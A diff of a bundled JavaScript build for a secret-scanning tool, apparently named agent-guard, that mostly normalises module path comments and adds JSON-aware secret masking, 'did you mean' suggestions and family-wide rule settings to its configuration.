-  "../../work/main/node_modules/picomatch/index.js"(exports, module2) {
+  "node_modules/picomatch/index.js"(exports, module2) {
     "use strict";
     var pico = require_picomatch();
     var utils = require_utils2();
@@ -21257,9 +21257,9 @@ var require_picomatch2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/boundary/lib/index.js
+// node_modules/boundary/lib/index.js
 var require_lib = __commonJS({
-  "../../work/main/node_modules/boundary/lib/index.js"(exports) {
+  "node_modules/boundary/lib/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.binarySearch = exports.upperBound = exports.lowerBound = exports.compare = void 0;
@@ -21307,9 +21307,9 @@ var require_lib = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/structured-source/lib/structured-source.js
+// node_modules/structured-source/lib/structured-source.js
 var require_structured_source = __commonJS({
-  "../../work/main/node_modules/structured-source/lib/structured-source.js"(exports) {
+  "node_modules/structured-source/lib/structured-source.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.StructuredSource = void 0;
@@ -21385,20 +21385,20 @@ var require_structured_source = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/helper/invariant.js
+// node_modules/@secretlint/core/module/helper/invariant.js
 function invariant(condition, message) {
   if (!condition)
     throw new Error(message);
 }
 var init_invariant = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/helper/invariant.js"() {
+  "node_modules/@secretlint/core/module/helper/invariant.js"() {
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/SecretLintSourceCodeImpl.js
+// node_modules/@secretlint/core/module/SecretLintSourceCodeImpl.js
 var import_structured_source, SecretLintSourceCodeImpl;
 var init_SecretLintSourceCodeImpl = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/SecretLintSourceCodeImpl.js"() {
+  "node_modules/@secretlint/core/module/SecretLintSourceCodeImpl.js"() {
     import_structured_source = __toESM(require_structured_source(), 1);
     init_invariant();
     SecretLintSourceCodeImpl = class {
@@ -21487,10 +21487,10 @@ var init_SecretLintSourceCodeImpl = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/helper/promise-event-emitter.js
+// node_modules/@secretlint/core/module/helper/promise-event-emitter.js
 var EventEmitter, PromiseEventEmitter;
 var init_promise_event_emitter = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/helper/promise-event-emitter.js"() {
+  "node_modules/@secretlint/core/module/helper/promise-event-emitter.js"() {
     EventEmitter = class {
       #listeners = /* @__PURE__ */ new Map();
       on(type, listener) {
@@ -21551,10 +21551,10 @@ var init_promise_event_emitter = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/helper/SecretLintRuleMessageTranslator.js
+// node_modules/@secretlint/core/module/helper/SecretLintRuleMessageTranslator.js
 var DEFAULT_LOCAL, formatMessage2, getMatchedLocaleMessage, createTranslator;
 var init_SecretLintRuleMessageTranslator = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/helper/SecretLintRuleMessageTranslator.js"() {
+  "node_modules/@secretlint/core/module/helper/SecretLintRuleMessageTranslator.js"() {
     DEFAULT_LOCAL = "en";
     formatMessage2 = (messageHandler, props) => {
       if (typeof props !== "object" || props === null) {
@@ -21620,10 +21620,10 @@ var init_SecretLintRuleMessageTranslator = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/RuleContext.js
+// node_modules/@secretlint/core/module/RuleContext.js
 var createContextEvents, createRuleContext;
 var init_RuleContext = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/RuleContext.js"() {
+  "node_modules/@secretlint/core/module/RuleContext.js"() {
     init_promise_event_emitter();
     init_SecretLintRuleMessageTranslator();
     createContextEvents = () => {
@@ -21712,10 +21712,10 @@ var init_RuleContext = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/SecretLintRuleImpl.js
+// node_modules/@secretlint/core/module/SecretLintRuleImpl.js
 var SecretLintRule;
 var init_SecretLintRuleImpl = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/SecretLintRuleImpl.js"() {
+  "node_modules/@secretlint/core/module/SecretLintRuleImpl.js"() {
     SecretLintRule = class {
       ruleReportHandle;
       ruleCreator;
@@ -21759,10 +21759,10 @@ var init_SecretLintRuleImpl = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/profiler/module/index.js
+// node_modules/@secretlint/profiler/module/index.js
 var SecretLintProfiler;
 var init_module = __esm({
-  "../../work/main/node_modules/@secretlint/profiler/module/index.js"() {
+  "node_modules/@secretlint/profiler/module/index.js"() {
     SecretLintProfiler = class {
       perf;
       entries = [];
@@ -21821,7 +21821,7 @@ var init_module = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/profiler/module/node.js
+// node_modules/@secretlint/profiler/module/node.js
 var node_exports = {};
 __export(node_exports, {
   SecretLintProfiler: () => SecretLintProfiler,
@@ -21830,7 +21830,7 @@ __export(node_exports, {
 import perf_hooks from "node:perf_hooks";
 var NullPerformanceObserver, secretLintProfiler;
 var init_node = __esm({
-  "../../work/main/node_modules/@secretlint/profiler/module/node.js"() {
+  "node_modules/@secretlint/profiler/module/node.js"() {
     init_module();
     NullPerformanceObserver = class {
       disconnect() {
@@ -21845,10 +21845,10 @@ var init_node = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/RunningEvents.js
+// node_modules/@secretlint/core/module/RunningEvents.js
 var createRunningEvents;
 var init_RunningEvents = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/RunningEvents.js"() {
+  "node_modules/@secretlint/core/module/RunningEvents.js"() {
     init_promise_event_emitter();
     init_SecretLintRuleImpl();
     init_node();
@@ -21911,10 +21911,10 @@ Duplicated rule.id is something wrong in .secretlintrc.
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/RulePresetContext.js
+// node_modules/@secretlint/core/module/RulePresetContext.js
 var createRulePresetContext;
 var init_RulePresetContext = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/RulePresetContext.js"() {
+  "node_modules/@secretlint/core/module/RulePresetContext.js"() {
     init_RuleContext();
     createRulePresetContext = ({ configRulePreset, sourceCode, runningEvents, contextEvents, sharedOptions, locale }) => {
       const presetRules2 = configRulePreset.rules || [];
@@ -21967,7 +21967,7 @@ var init_RulePresetContext = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/messages/filter-ignored-process.js
+// node_modules/@secretlint/core/module/messages/filter-ignored-process.js
 function filterIgnoredMessages(options) {
   const reportedMessages = options.reportedMessages;
   const ignoreMessages = options.ignoredMessages;
@@ -21986,7 +21986,7 @@ function filterIgnoredMessages(options) {
 }
 var isContainedRange;
 var init_filter_ignored_process = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/messages/filter-ignored-process.js"() {
+  "node_modules/@secretlint/core/module/messages/filter-ignored-process.js"() {
     isContainedRange = (index, range) => {
       const [start2, end] = range;
       return start2 <= index && index <= end;
@@ -21994,10 +21994,10 @@ var init_filter_ignored_process = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/messages/MessageProcessManager.js
+// node_modules/@secretlint/core/module/messages/MessageProcessManager.js
 var createMessageProcessor;
 var init_MessageProcessManager = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/messages/MessageProcessManager.js"() {
+  "node_modules/@secretlint/core/module/messages/MessageProcessManager.js"() {
     createMessageProcessor = (processors) => {
       return {
         /**
@@ -22017,7 +22017,7 @@ var init_MessageProcessManager = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/messages/filter-duplicated-process.js
+// node_modules/@secretlint/core/module/messages/filter-duplicated-process.js
 function filterDuplicatedMessages(messages2 = []) {
   return messages2.filter((message, index) => {
     const restMessages = messages2.slice(index + 1);
@@ -22028,14 +22028,14 @@ function filterDuplicatedMessages(messages2 = []) {
 }
 var isEqualMessage;
 var init_filter_duplicated_process = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/messages/filter-duplicated-process.js"() {
+  "node_modules/@secretlint/core/module/messages/filter-duplicated-process.js"() {
     isEqualMessage = (aMessage, bMessage) => {
       return aMessage.range[0] === bMessage.range[0] && aMessage.range[1] === bMessage.range[1] && "severity" in aMessage && "severity" in bMessage && aMessage.severity === bMessage.severity && aMessage.message === bMessage.message;
     };
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/messages/sort-messages-process.js
+// node_modules/@secretlint/core/module/messages/sort-messages-process.js
 function sortMessagesByLocation(messages2) {
   return messages2.sort(function(a, b) {
     const startIndexDiff = a.range[0] - b.range[0];
@@ -22047,14 +22047,14 @@ function sortMessagesByLocation(messages2) {
   });
 }
 var init_sort_messages_process = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/messages/sort-messages-process.js"() {
+  "node_modules/@secretlint/core/module/messages/sort-messages-process.js"() {
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/messages/filter-message-id.js
+// node_modules/@secretlint/core/module/messages/filter-message-id.js
 var filterByAllowMessageIds;
 var init_filter_message_id = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/messages/filter-message-id.js"() {
+  "node_modules/@secretlint/core/module/messages/filter-message-id.js"() {
     filterByAllowMessageIds = (messages2, allowMessageIds) => {
       const disabledSet = new Set(allowMessageIds.map((allowMessage) => {
         return `${allowMessage.ruleId}--${allowMessage.messageId}`;
@@ -22066,10 +22066,10 @@ var init_filter_message_id = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/messages/filter-mask-secrets.js
+// node_modules/@secretlint/core/module/messages/filter-mask-secrets.js
 var deepMask, createMaskValue, maskWithValues, filterMaskSecretsData;
 var init_filter_mask_secrets = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/messages/filter-mask-secrets.js"() {
+  "node_modules/@secretlint/core/module/messages/filter-mask-secrets.js"() {
     deepMask = (object, handler) => {
       for (const key of Object.keys(object)) {
         if (typeof object[key] === "object") {
@@ -22116,10 +22116,10 @@ var init_filter_mask_secrets = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/messages/index.js
+// node_modules/@secretlint/core/module/messages/index.js
 var cleanupMessages;
 var init_messages = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/messages/index.js"() {
+  "node_modules/@secretlint/core/module/messages/index.js"() {
     init_filter_ignored_process();
     init_MessageProcessManager();
     init_filter_duplicated_process();
@@ -22136,9 +22136,9 @@ var init_messages = __esm({
   }
 });
 
-// ../../work/main/node_modules/ms/index.js
+// node_modules/ms/index.js
 var require_ms = __commonJS({
-  "../../work/main/node_modules/ms/index.js"(exports, module2) {
+  "node_modules/ms/index.js"(exports, module2) {
     var s = 1e3;
     var m = s * 60;
     var h = m * 60;
@@ -22252,9 +22252,9 @@ var require_ms = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/debug/src/common.js
+// node_modules/debug/src/common.js
 var require_common = __commonJS({
-  "../../work/main/node_modules/debug/src/common.js"(exports, module2) {
+  "node_modules/debug/src/common.js"(exports, module2) {
     function setup(env) {
       createDebug.debug = createDebug;
       createDebug.default = createDebug;
@@ -22429,9 +22429,9 @@ var require_common = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/debug/src/browser.js
+// node_modules/debug/src/browser.js
 var require_browser = __commonJS({
-  "../../work/main/node_modules/debug/src/browser.js"(exports, module2) {
+  "node_modules/debug/src/browser.js"(exports, module2) {
     exports.formatArgs = formatArgs;
     exports.save = save;
     exports.load = load;
@@ -22599,9 +22599,9 @@ var require_browser = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/has-flag/index.js
+// node_modules/has-flag/index.js
 var require_has_flag = __commonJS({
-  "../../work/main/node_modules/has-flag/index.js"(exports, module2) {
+  "node_modules/has-flag/index.js"(exports, module2) {
     "use strict";
     module2.exports = (flag, argv = process.argv) => {
       const prefix = flag.startsWith("-") ? "" : flag.length === 1 ? "-" : "--";
@@ -22612,9 +22612,9 @@ var require_has_flag = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/supports-color/index.js
+// node_modules/supports-color/index.js
 var require_supports_color = __commonJS({
-  "../../work/main/node_modules/supports-color/index.js"(exports, module2) {
+  "node_modules/supports-color/index.js"(exports, module2) {
     "use strict";
     var os = __require("os");
     var tty = __require("tty");
@@ -22714,9 +22714,9 @@ var require_supports_color = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/debug/src/node.js
+// node_modules/debug/src/node.js
 var require_node = __commonJS({
-  "../../work/main/node_modules/debug/src/node.js"(exports, module2) {
+  "node_modules/debug/src/node.js"(exports, module2) {
     var tty = __require("tty");
     var util = __require("util");
     exports.init = init3;
@@ -22888,9 +22888,9 @@ var require_node = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/debug/src/index.js
+// node_modules/debug/src/index.js
 var require_src = __commonJS({
-  "../../work/main/node_modules/debug/src/index.js"(exports, module2) {
+  "node_modules/debug/src/index.js"(exports, module2) {
     if (typeof process === "undefined" || process.type === "renderer" || process.browser === true || process.__nwjs) {
       module2.exports = require_browser();
     } else {
@@ -22899,14 +22899,14 @@ var require_src = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/core/module/index.js
+// node_modules/@secretlint/core/module/index.js
 var module_exports = {};
 __export(module_exports, {
   lintSource: () => lintSource
 });
 var import_debug, debug, lintSource, isRulePreset, isRule, registerRule;
 var init_module2 = __esm({
-  "../../work/main/node_modules/@secretlint/core/module/index.js"() {
+  "node_modules/@secretlint/core/module/index.js"() {
     init_SecretLintSourceCodeImpl();
     init_RuleContext();
     init_RunningEvents();
@@ -23037,7 +23037,7 @@ var init_module2 = __esm({
   }
 });
 
-// ../../work/main/node_modules/@secretlint/secretlint-rule-preset-recommend/module/index.js
+// node_modules/@secretlint/secretlint-rule-preset-recommend/module/index.js
 var module_exports2 = {};
 __export(module_exports2, {
   creator: () => creator,
@@ -24497,8 +24497,8 @@ function requireLodash_sortby() {
       if (reLeadingDot.test(string)) {
         result.push("");
       }
-      string.replace(rePropName, function(match, number, quote, string2) {
-        result.push(quote ? string2.replace(reEscapeChar, "$1") : number || match);
+      string.replace(rePropName, function(match, number, quote2, string2) {
+        result.push(quote2 ? string2.replace(reEscapeChar, "$1") : number || match);
       });
       return result;
     });
@@ -25372,7 +25372,7 @@ function parseComment(options) {
 }
 var commonjsGlobal, regexpStringMatcher, lodash_uniq, hasRequiredLodash_uniq, lodash_uniqwith, hasRequiredLodash_uniqwith, lodash_sortby, hasRequiredLodash_sortby, escapeStringRegexp, hasRequiredEscapeStringRegexp, regexpParse, hasRequiredRegexpParse, hasRequiredRegexpStringMatcher, regexpStringMatcherExports, BUILTIN_IGNORED, messages$o, reportAWSAccessKey, reportAWSSecretAccessKey, reportAWSAccountID, creator$p, TAG_INTEGER, TAG_OCTET_STRING, TAG_NULL, TAG_OID, TAG_SEQUENCE, TAG_CONTEXT_0, OID_DATA, OID_SHA1, OID_SHA256, OID_SHA384, OID_SHA512, MAC_HASHES, MAX_MAC_ITERATIONS, GCP_SERVICE_ACCOUNT_P12_PASSWORD, messages$n, creator$o, messages$m, isPackageFile, isNpmrc, creator$n, messages$l, creator$m, messages$k, BUILTIN_IGNORED_PATTERNS$1, creator$l, messages$j, creator$k, messages$i, creator$j, messages$h, creator$i, messages$g, creator$h, messages$f, creator$g, messages$e, creator$f, messages$d, PEM_CONTENT_PATTERN, creator$e, messages$c, creator$d, messages$b, creator$c, messages$a, typeMap, creator$b, messages$9, creator$a, messages$8, creator$9, messages$7, is1PasswordServiceAccountToken, creator$8, messages$6, BUILTIN_IGNORED_PATTERNS, creator$7, messages$5, serviceTokenPattern, batchTokenPattern, recoveryTokenPattern, creator$6, messages$4, prefixToMessageId, creator$5, messages$3, creator$4, messages$2, creator$3, messages$1, creator$2, HTML_COMMENT_REGEXP, parseComments, CommentState, messages, creator$1, rules, creator;
 var init_module3 = __esm({
-  "../../work/main/node_modules/@secretlint/secretlint-rule-preset-recommend/module/index.js"() {
+  "node_modules/@secretlint/secretlint-rule-preset-recommend/module/index.js"() {
     commonjsGlobal = typeof globalThis !== "undefined" ? globalThis : typeof window !== "undefined" ? window : typeof global !== "undefined" ? global : typeof self !== "undefined" ? self : {};
     regexpStringMatcher = {};
     lodash_sortby = { exports: {} };
@@ -26738,33 +26738,110 @@ function maskSecret(secret) {
   return `${s.slice(0, head)}\u2026${tail ? s.slice(-tail) : ""}`;
 }
 var SHOWN_PREFIX = 8;
+var MIN_SECRET_LENGTH = 8;
+var ASSIGNED = /^["']?[A-Za-z_][\w.-]*["']?\s*(?::|=>|=)\s*["']?/;
+var STRUCTURAL = /["',{}[\]]/;
+function secretMaterial(secret) {
+  const s = secret.trim();
+  const assigned = ASSIGNED.exec(s);
+  if (!assigned || assigned[0].length === 0) return s;
+  const value = s.slice(assigned[0].length).replace(/["']$/, "");
+  return value.length >= MIN_SECRET_LENGTH ? value : s;
+}
 var Redactor = class {
   secrets = /* @__PURE__ */ new Set();
-  /** Per secret: the longest leading run it shares with another registered secret (`sk-ant-api03-`). */
-  shared = null;
+  /** Per secret, computed once per set of secrets: its forms (raw, JSON-escaped), kept prefix and mask. */
+  patterns = null;
   add(secret) {
-    const s = secret.trim();
-    if (s.length >= 8 && !this.secrets.has(s)) {
+    const s = secretMaterial(secret);
+    if (s.length >= MIN_SECRET_LENGTH && !this.secrets.has(s)) {
       this.secrets.add(s);
-      this.shared = null;
+      this.patterns = null;
     }
   }
   get size() {
     return this.secrets.size;
   }
+  /** Mask every registered secret in `text`; a JSON document stays a JSON document with the same structure. */
   redact(text) {
     if (this.secrets.size === 0) return text;
-    const shared = this.shared ??= sharedPrefixes([...this.secrets]);
-    let out2 = text;
-    for (const secret of this.secrets) {
-      const keep = Math.max(SHOWN_PREFIX, shared.get(secret) ?? 0);
-      out2 = maskOccurrences(out2, secret, keep);
-      const escaped = JSON.stringify(secret).slice(1, -1);
-      if (escaped !== secret) out2 = maskOccurrences(out2, escaped, keep, maskSecret(secret));
+    return isJsonDocument(text) ? this.redactJsonText(text) : this.redactPlain(text);
+  }
+  /**
+   * A copy of `value` with every string in it (values and keys, at any depth) masked: mask a document
+   * before it is serialized, so that the serialized form never needs a byte-level fix.
+   */
+  redactValue(value) {
+    if (this.secrets.size === 0) return value;
+    const visit2 = (v) => {
+      if (typeof v === "string") return this.redactPlain(v);
+      if (Array.isArray(v)) return v.map(visit2);
+      if (v && typeof v === "object" && Object.getPrototypeOf(v) === Object.prototype) {
+        return Object.fromEntries(Object.entries(v).map(([k, inner]) => [this.redactPlain(k), visit2(inner)]));
+      }
+      return v;
+    };
+    return visit2(value);
+  }
+  compiled() {
+    if (!this.patterns) {
+      const shared = sharedPrefixes([...this.secrets]);
+      this.patterns = [...this.secrets].map((secret) => {
+        const escaped = JSON.stringify(secret).slice(1, -1);
+        return { forms: escaped === secret ? [secret] : [secret, escaped], keep: Math.max(SHOWN_PREFIX, shared.get(secret) ?? 0), mask: maskSecret(secret) };
+      });
     }
+    return this.patterns;
+  }
+  redactPlain(text) {
+    let out2 = text;
+    for (const p of this.compiled()) for (const form of p.forms) out2 = maskOccurrences(out2, form, p.keep, p.mask);
     return out2;
   }
+  /**
+   * Mask inside each string literal of a JSON text (decoded, masked, encoded again) and in numbers. Only
+   * the tokens where a secret may start are decoded: those holding the leading characters of a secret
+   * (raw or escaped as JSON.stringify escapes it), and those with `\u` or `\/` escapes, which could
+   * spell a secret in other characters.
+   */
+  redactJsonText(text) {
+    const starts = [];
+    for (const p of this.compiled()) {
+      for (const form of p.forms) {
+        if (form.length <= p.keep) continue;
+        const probe = form.slice(0, p.keep + 1);
+        for (let at2 = text.indexOf(probe); at2 >= 0; at2 = text.indexOf(probe, at2 + 1)) starts.push(at2);
+      }
+    }
+    const escapes = /\\[u/]/;
+    if (starts.length === 0 && !escapes.test(text)) return text;
+    starts.sort((a, b) => a - b);
+    let next = 0;
+    return text.replace(JSON_TOKEN, (token, offset) => {
+      while (next < starts.length && starts[next] < offset) next++;
+      const holds = next < starts.length && starts[next] < offset + token.length;
+      if (!holds && !escapes.test(token)) return token;
+      if (token.startsWith('"')) {
+        const value = token.includes("\\") ? JSON.parse(token) : token.slice(1, -1);
+        const masked3 = this.redactPlain(value);
+        return masked3 === value ? token : JSON.stringify(masked3);
+      }
+      const masked2 = this.redactPlain(token);
+      return masked2 === token ? token : JSON.stringify(masked2);
+    });
+  }
 };
+var JSON_TOKEN = /"(?:[^"\\]|\\.)*"|-?\d[\d.eE+-]*/g;
+function isJsonDocument(text) {
+  const first = /\S/.exec(text)?.[0];
+  if (first !== "{" && first !== "[") return false;
+  try {
+    JSON.parse(text);
+    return true;
+  } catch {
+    return false;
+  }
+}
 function commonPrefix(a, b) {
   let i2 = 0;
   while (i2 < a.length && i2 < b.length && a[i2] === b[i2]) i2++;
@@ -26789,9 +26866,15 @@ function maskOccurrences(text, secret, keep, mask = maskSecret(secret)) {
   while (from >= 0) {
     let length = probe.length;
     while (length < secret.length && from + length < text.length && text[from + length] === secret[length]) length++;
-    out2 += text.slice(last, from) + mask;
-    last = from + length;
-    from = text.indexOf(probe, last);
+    if (length < secret.length) {
+      const structural = STRUCTURAL.exec(text.slice(from, from + length));
+      if (structural) length = structural.index;
+    }
+    if (length > keep) {
+      out2 += text.slice(last, from) + mask;
+      last = from + length;
+    }
+    from = text.indexOf(probe, Math.max(last, from + 1));
   }
   return out2 + text.slice(last);
 }
@@ -26810,9 +26893,41 @@ var DOCS_BASE_URL = `${REPOSITORY_URL}/blob/${RELEASE_TAG}/docs/rules`;
 var CONFIG_SCHEMA_URL = `${REPOSITORY_URL}/raw/${RELEASE_TAG}/schema/config.schema.json`;
 var CONFIGURATION_DOCS_URL = `${REPOSITORY_URL}/blob/${RELEASE_TAG}/README.md#configuration`;
 
+// src/config/suggest.ts
+function editDistance(a, b) {
+  if (a === b) return 0;
+  const rows = a.length + 1;
+  const cols = b.length + 1;
+  const d = Array.from({ length: rows }, (_, i2) => Array.from({ length: cols }, (_2, j) => i2 === 0 ? j : j === 0 ? i2 : 0));
+  for (let i2 = 1; i2 < rows; i2++) {
+    for (let j = 1; j < cols; j++) {
+      const cost = a[i2 - 1] === b[j - 1] ? 0 : 1;
+      d[i2][j] = Math.min(d[i2 - 1][j] + 1, d[i2][j - 1] + 1, d[i2 - 1][j - 1] + cost);
+      if (i2 > 1 && j > 1 && a[i2 - 1] === b[j - 2] && a[i2 - 2] === b[j - 1]) d[i2][j] = Math.min(d[i2][j], d[i2 - 2][j - 2] + 1);
+    }
+  }
+  return d[rows - 1][cols - 1];
+}
+function closest(input, candidates, maxDistance = 2) {
+  const limit = Math.min(maxDistance, Math.max(1, Math.floor(input.length / 3)));
+  let best = null;
+  for (const candidate of candidates) {
+    if (candidate === input) continue;
+    const folded = editDistance(input.toLowerCase(), candidate.toLowerCase());
+    if (folded > limit) continue;
+    const exact = editDistance(input, candidate);
+    if (!best || folded < best.folded || folded === best.folded && exact < best.exact) best = { candidate, folded, exact };
+  }
+  return best?.candidate ?? null;
+}
+function didYouMean(input, candidates, quote2 = (s) => `"${s}"`) {
+  const match = closest(input, candidates);
+  return match ? `did you mean ${quote2(match)}?` : "";
+}
+
 // src/cli/commands/baseline.ts
 import { existsSync as existsSync3 } from "node:fs";
-import { isAbsolute as isAbsolute2, join as join5, relative as relative2, resolve as resolve3 } from "node:path";
+import { isAbsolute as isAbsolute2, join as join6, relative as relative2, resolve as resolve5 } from "node:path";
 
 // src/engine/baseline.ts
 import { randomBytes } from "node:crypto";
@@ -26838,6 +26953,8 @@ var loadYaml = once(() => bundled ? require_dist2() : requireFromSource("yaml"))
 
 // src/config/schema.ts
 var severityOrOff = { enum: ["error", "warning", "note", "off"] };
+var RULE_KEY_PATTERN = "^(secret|tool-input|rate-limit|tool-payload)/([a-z0-9]+(-[a-z0-9]+)*|\\*)$";
+var FAMILY_KEY_PATTERN = "^(secret|tool-input|rate-limit|tool-payload)/\\*$";
 var CONFIG_SCHEMA_ID = CONFIG_SCHEMA_URL;
 var configSchema = {
   $schema: "http://json-schema.org/draft-07/schema#",
@@ -26868,9 +26985,15 @@ var configSchema = {
       enum: ["error", "warning", "note", "never"]
     },
     rules: {
-      description: 'Per-rule severity ("off" disables a rule) and options, keyed by rule id.',
+      description: 'Per-rule severity ("off" disables a rule) and options, keyed by rule id. A key "family/*" (e.g. "rate-limit/*": off) sets the severity of every rule of a family; an entry for a specific rule id overrides it.',
       type: "object",
-      propertyNames: { pattern: "^(secret|tool-input|rate-limit|tool-payload)/[a-z0-9]+(-[a-z0-9]+)*$" },
+      propertyNames: { pattern: RULE_KEY_PATTERN },
+      patternProperties: {
+        [FAMILY_KEY_PATTERN]: {
+          description: 'Severity of every rule of the family ("off" disables them); specific rule ids override it.',
+          oneOf: [severityOrOff, { type: "object", additionalProperties: false, properties: { severity: severityOrOff } }]
+        }
+      },
       additionalProperties: {
         oneOf: [
           severityOrOff,
@@ -26915,6 +27038,15 @@ var configSchema = {
   }
 };
 
+// src/core/severity.ts
+var SEVERITY_RANK = { error: 3, warning: 2, note: 1 };
+
+// src/core/types.ts
+var FAMILIES = ["secret", "tool-input", "rate-limit", "tool-payload"];
+function docsUrl(ruleId) {
+  return `${DOCS_BASE_URL}/${ruleId}.md`;
+}
+
 // src/core/config.ts
 var DEFAULT_MAX_FILE_SIZE = 1024 * 1024;
 function defaultConfig() {
@@ -26952,21 +27084,27 @@ function keyPath(instancePath, prefix = "") {
   const joined = [prefix, ...parts2].filter(Boolean).map((p) => /^\d+$/.test(p) ? `[${p}]` : p).join(".").replace(/\.\[/g, "[");
   return joined || "(top level)";
 }
-function describe(error, prefix = "", schema = configSchema) {
+function suggestion(input, candidates) {
+  const hint = didYouMean(input, candidates);
+  return hint ? `: ${hint}` : "";
+}
+function describe(error, prefix = "", schema = configSchema, ruleKeys = []) {
   const key = keyPath(error.instancePath, prefix);
   switch (error.keyword) {
     case "additionalProperties": {
       const extra = error.params.additionalProperty;
       const where2 = key === "(top level)" ? extra : `${key}.${extra}`;
       const allowed = allowedKeys(error.schemaPath, schema);
-      return `unknown key "${where2}"${allowed ? ` (expected one of: ${allowed})` : ""}`;
+      return `unknown key "${where2}"${allowed ? suggestion(extra, allowed.split(", ")) : ""}${allowed ? ` (expected one of: ${allowed})` : ""}`;
     }
     case "enum":
       return `key "${key}": expected one of ${error.params.allowedValues.map((v) => JSON.stringify(v)).join(", ")}`;
     case "required":
       return `key "${key}": missing required key "${error.params.missingProperty}"`;
-    case "propertyNames":
-      return `key "${key}": "${error.params.propertyName}" is not a rule id (expected family/rule-name, family one of secret, tool-input, rate-limit, tool-payload)`;
+    case "propertyNames": {
+      const name2 = error.params.propertyName;
+      return `key "${key}": "${name2}" is not a rule id${suggestion(name2, ruleKeys)} (expected family/rule-name or family/*, family one of ${FAMILIES.join(", ")})`;
+    }
     case "type":
       return `key "${key}": expected ${error.params.type}`;
     default:
@@ -26980,15 +27118,19 @@ function allowedKeys(schemaPath, schema) {
   const properties = node?.properties;
   return properties ? Object.keys(properties).filter((k) => k !== "$schema").join(", ") : "";
 }
-function summarize(errors) {
+function summarize(errors, ruleKeys) {
   const seen = /* @__PURE__ */ new Map();
   for (const e of errors) {
     if (e.keyword === "oneOf" || e.keyword === "if") continue;
     if (e.schemaPath.includes("/propertyNames/")) continue;
     const k = e.instancePath + "|" + (e.keyword === "additionalProperties" ? e.params.additionalProperty : "");
-    if (!seen.has(k)) seen.set(k, describe(e));
+    if (!seen.has(k)) seen.set(k, describe(e, "", configSchema, ruleKeys));
   }
   return [...seen.values()];
+}
+var FAMILY_KEY = new RegExp(FAMILY_KEY_PATTERN);
+function ruleSetting(setting) {
+  return typeof setting === "string" ? { severity: setting } : { ...setting };
 }
 function parseText(file, text) {
   if (file.endsWith(".json")) {
@@ -27029,18 +27171,29 @@ function loadConfig({ configFile, root, rules: rules2 }) {
   if (data === null || typeof data !== "object" || Array.isArray(data)) {
     throw new UsageError(`${name2}: expected a mapping of keys at the top level`);
   }
-  const problems = summarize(validate(data));
-  const raw = data;
   const known = new Map(rules2.map((r2) => [r2.id, r2]));
+  const ruleKeys = [...known.keys(), ...FAMILIES.map((f) => `${f}/*`)];
+  const problems = summarize(validate(data), ruleKeys);
+  const raw = data;
   for (const [id, setting] of Object.entries(raw.rules ?? {})) {
+    if (FAMILY_KEY.test(id)) continue;
     const meta = known.get(id);
     if (!meta) {
-      if (/^(secret|tool-input|rate-limit|tool-payload)\//.test(id)) problems.push(`key "rules.${id}": unknown rule (run "agent-guard rules" for the list)`);
+      if (/^(secret|tool-input|rate-limit|tool-payload)\//.test(id)) {
+        problems.push(`key "rules.${id}": unknown rule${suggestion(id, known.keys())} (run "agent-guard rules" for the list)`);
+      }
       continue;
     }
     if (setting && typeof setting === "object" && "options" in setting) {
       problems.push(...optionProblems(meta, setting.options));
     }
+  }
+  if (Array.isArray(raw.ignore)) {
+    raw.ignore.forEach((entry, i2) => {
+      const rule = entry?.rule;
+      if (typeof rule !== "string" || rule === "*" || FAMILY_KEY.test(rule) || known.has(rule)) return;
+      problems.push(`key "ignore[${i2}].rule": unknown rule "${rule}"${suggestion(rule, ruleKeys)} (expected a rule id, family/* or *)`);
+    });
   }
   if (problems.length > 0) {
     throw new UsageError(`${name2}: ${problems.join("; ")}`);
@@ -27052,8 +27205,15 @@ function loadConfig({ configFile, root, rules: rules2 }) {
   if (raw.failOn) config.failOn = raw.failOn;
   if (raw.payloads) config.payloads = raw.payloads;
   if (raw.ignore) config.ignore = raw.ignore;
-  for (const [id, setting] of Object.entries(raw.rules ?? {})) {
-    config.rules[id] = typeof setting === "string" ? { severity: setting } : setting;
+  const entries = Object.entries(raw.rules ?? {});
